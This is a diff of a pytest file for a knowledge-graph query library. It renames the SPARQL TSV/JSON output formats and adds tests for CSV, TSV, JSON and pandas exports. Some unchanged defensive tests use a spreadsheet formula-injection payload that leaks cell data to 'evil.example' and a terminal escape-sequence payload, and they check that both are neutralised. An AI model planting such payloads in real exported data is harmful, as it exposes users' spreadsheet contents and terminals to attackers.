@@ -4,6 +4,7 @@ import json
 import time
 
 import pytest
+from rdflib import RDFS
 
 import kg
 from kg.query import check_service, format_results, named_queries
@@ -56,11 +57,11 @@ def test_unknown_named_query_lists_the_available_ones(seed_store):
         kg.query(name="conflicts", store=seed_store)
 
 
-def test_csv_tsv_and_json_outputs(seed_store):
+def test_csv_sparql_tsv_and_sparql_json_outputs(seed_store):
     results = kg.query("SELECT ?label WHERE { id:tajikistan rdfs:label ?label }", store=seed_store)
     assert list(csv.reader(io.StringIO(format_results(results, "csv")))) == [["label"], ["Tajikistan"]]
-    assert format_results(results, "tsv") == '?label\n"Tajikistan"\n'
-    assert json.loads(format_results(results, "json"))["results"]["bindings"] == [
+    assert format_results(results, "sparql-tsv") == '?label\n"Tajikistan"\n'
+    assert json.loads(format_results(results, "sparql-json"))["results"]["bindings"] == [
         {"label": {"type": "literal", "value": "Tajikistan"}}
     ]
     table = format_results(results, "table")
@@ -169,16 +170,16 @@ def test_query_csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_front(hosti
     assert rows == [["label", "quote", "start"], ["'" + HYPERLINK, "'" + quote, "33"]]
 
 
-def test_query_tsv_literals_that_a_spreadsheet_would_run_get_a_quote_inside_their_quotes(hostile_store):
-    lines = run_query(hostile_store, SPEAKER, "--format", "tsv").splitlines()
+def test_query_sparql_tsv_literals_that_a_spreadsheet_would_run_get_a_quote_inside_their_quotes(hostile_store):
+    lines = run_query(hostile_store, SPEAKER, "--format", "sparql-tsv").splitlines()
     label, quote, start = lines[1].split("\t")
     assert label == '"\'=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"click\\")"'
     assert quote == label[:-1] + ' On April 30, Tajikistan repatriated 84 minors from Iraq"'
     assert start == '"33"^^<http://www.w3.org/2001/XMLSchema#integer>'
 
 
-def test_query_json_keeps_the_text_exact(hostile_store):
-    bindings = json.loads(run_query(hostile_store, SPEAKER, "--format", "json"))["results"]["bindings"]
+def test_query_sparql_json_keeps_the_text_exact(hostile_store):
+    bindings = json.loads(run_query(hostile_store, SPEAKER, "--format", "sparql-json"))["results"]["bindings"]
     assert bindings[0]["label"]["value"] == HYPERLINK
 
 
@@ -194,3 +195,92 @@ def test_control_characters_in_a_title_are_escaped_in_the_table(hostile_store):
         "Tajikistan brings children home\\x1b]0;pwned\\x07",
     ]
     assert "\x1b" not in table and "\x07" not in table
+
+
+# --- formats for the analyst's tools (issue 17) --------------------------------------------------------
+
+MIXED = """SELECT ?who ?n ?x ?note ?missing WHERE {
+  VALUES (?who ?n ?x ?note) { (id:tokayev 3 0.5 "a, b\\tc \\"d\\"") (id:rahmon -2 1e3 "plain") }
+  OPTIONAL { ?who kg:noSuchProperty ?missing }
+} ORDER BY ?n"""
+PLAIN = [
+    ["who", "n", "x", "note", "missing"],
+    ["https://kg.example.org/id/rahmon", "-2", "1000.0", "plain", ""],
+    ["https://kg.example.org/id/tokayev", "3", "0.5", 'a, b\tc "d"', ""],
+]
+
+
+def test_csv_and_tsv_are_plain_values_that_the_csv_module_reads_back(seed_store):
+    results = kg.query(MIXED, store=seed_store)
+    assert list(csv.reader(io.StringIO(format_results(results, "csv")))) == PLAIN
+    assert list(csv.reader(io.StringIO(format_results(results, "tsv")), delimiter="\t")) == PLAIN
+
+
+def test_csv_tsv_json_and_jsonl_round_trip_through_pandas(seed_store):
+    pd = pytest.importorskip("pandas")
+    results = kg.query(MIXED, store=seed_store)
+    frames = {
+        "csv": pd.read_csv(io.StringIO(format_results(results, "csv"))),
+        "tsv": pd.read_csv(io.StringIO(format_results(results, "tsv")), sep="\t"),
+        "json": pd.DataFrame(json.loads(format_results(results, "json"))),
+        "jsonl": pd.read_json(io.StringIO(format_results(results, "jsonl")), lines=True),
+    }
+    for format, frame in frames.items():
+        assert list(frame.columns) == ["who", "n", "x", "note", "missing"], format
+        assert frame["n"].tolist() == [-2, 3], format
+        assert frame["x"].tolist() == [1000.0, 0.5], format
+        assert frame["note"].tolist() == ["plain", 'a, b\tc "d"'], format
+        assert frame["missing"].isna().all(), format
+
+
+def test_json_is_a_list_of_records_with_numbers_and_nulls(seed_store):
+    records = json.loads(format_results(kg.query(MIXED, store=seed_store), "json"))
+    assert records[0] == {"who": "https://kg.example.org/id/rahmon", "n": -2, "x": 1000.0, "note": "plain", "missing": None}  # fmt: skip
+
+
+def test_to_dataframe_has_one_column_per_select_variable(seed_store):
+    pytest.importorskip("pandas")
+    frame = kg.query(MIXED, store=seed_store).to_dataframe()
+    assert list(frame.columns) == ["who", "n", "x", "note", "missing"]
+    assert frame["n"].tolist() == [-2, 3] and frame["x"].tolist() == [1000.0, 0.5]
+    named = kg.query(name="conflicting-claims", store=seed_store)
+    assert list(named.to_dataframe().columns) == named.variables
+    assert "outlets_agreeing" in named.variables
+
+
+def test_construct_as_csv_is_a_table_of_triples(seed_store):
+    graph = kg.query(
+        "CONSTRUCT { id:tajikistan rdfs:label ?l } WHERE { id:tajikistan rdfs:label ?l }", store=seed_store
+    )
+    rows = list(csv.reader(io.StringIO(format_results(graph, "csv"))))
+    assert rows == [["s", "p", "o"], ["https://kg.example.org/id/tajikistan", str(RDFS.label), "Tajikistan"]]
+    assert list(graph.to_dataframe().columns) == ["s", "p", "o"]
+
+
+def test_an_unknown_prefix_is_one_line_naming_it(seed_store):
+    with pytest.raises(kg.KGError) as error:
+        kg.query("SELECT * WHERE {\n  ?s a foo:Bar }", store=seed_store)
+    assert error.value.message.startswith("E310 unknown prefix 'foo' at 2:")
+    assert "\n" not in error.value.message and "\\u{" not in error.value.message
+
+
+def test_the_frames_have_the_export_columns(seed_store):
+    pytest.importorskip("pandas")
+    from kg.export import ACTOR_COLUMNS, CLAIM_COLUMNS
+
+    claims = kg.claims_frame(seed_store)
+    assert list(claims.columns) == list(CLAIM_COLUMNS) and len(claims) == len(kg.read_claims(seed_store))
+    actors = kg.actors_frame(seed_store)
+    assert list(actors.columns) == list(ACTOR_COLUMNS) and "Kassym-Jomart Tokayev" in set(actors["label"])
+    assert set(kg.entities_frame(seed_store, type="Country")["label"]) >= {"Kazakhstan", "Tajikistan"}
+
+
+def test_dataset_is_an_rdflib_dataset_over_the_store(seed_store):
+    from rdflib import Dataset, URIRef
+
+    ds = kg.dataset(seed_store)
+    assert isinstance(ds, Dataset)
+    tokayev = URIRef("https://kg.example.org/id/tokayev")
+    assert "Kassym-Jomart Tokayev" in {str(o) for o in ds.objects(tokayev, RDFS.label)}
+    answer = ds.query("ASK { GRAPH ?g { <https://kg.example.org/id/tokayev> a ?type } }")
+    assert answer.askAnswer is True
